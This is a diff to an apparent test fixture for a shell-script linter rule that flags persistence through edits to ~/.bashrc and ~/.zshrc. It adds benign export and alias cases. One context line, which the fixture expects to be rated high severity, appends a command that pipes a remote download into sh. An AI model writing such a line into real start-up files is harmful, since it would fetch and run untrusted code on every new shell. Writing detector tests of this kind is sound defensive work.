@@ -15,3 +15,5 @@ echo 'test -f ~/.acme/env && . ~/.acme/env' >> ~/.zshrc  # want "medium SV602: p
 echo '[ -f /tmp/.x ] && source /tmp/.x; curl -s https://cfg.example-sync.net/a | sh' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
 echo 'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
 echo '[[ -f ~/.bash-preexec.sh ]] && source ~/.bash-preexec.sh' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
+echo 'export NODE_ENV=development' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
+echo "alias ll='ls -la'" >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
